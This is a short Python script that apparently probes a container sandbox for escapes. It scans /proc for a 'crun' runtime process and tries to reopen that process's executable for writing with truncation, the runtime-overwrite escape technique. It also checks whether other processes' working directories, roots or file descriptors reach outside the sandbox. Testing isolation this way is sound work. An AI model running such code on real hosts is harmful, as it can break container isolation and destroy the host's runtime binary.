"""Looks at every process that comes by for a way out, and tries to write over its program: lurk.py SECONDS MARKER"""
import os, sys, time

end, marker = time.time() + float(sys.argv[1]), sys.argv[2]
own = str(os.getpid())
up = "../" * 16
looked = 0


def outside(path):
    return os.path.exists(f"{path}/{up}{marker}")


while time.time() < end:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or pid == own:
            continue
        looked += 1
        try:
            program = os.readlink(f"/proc/{pid}/exe")
            if "crun" in program:
                print("saw", program, flush=True)
                fd = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
                for flags in (os.O_WRONLY, os.O_RDWR | os.O_TRUNC):
                    os.close(os.open(f"/proc/self/fd/{fd}", flags))
                    print("ESCAPED program", program, flush=True)
        except OSError:
            pass
        for kind in ("cwd", "root"):
            if outside(f"/proc/{pid}/{kind}"):
                print("ESCAPED", kind, pid, flush=True)
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                if outside(f"/proc/{pid}/fd/{fd}"):
                    print("ESCAPED fd", pid, fd, flush=True)
        except OSError:
            pass
print("looked at", looked)
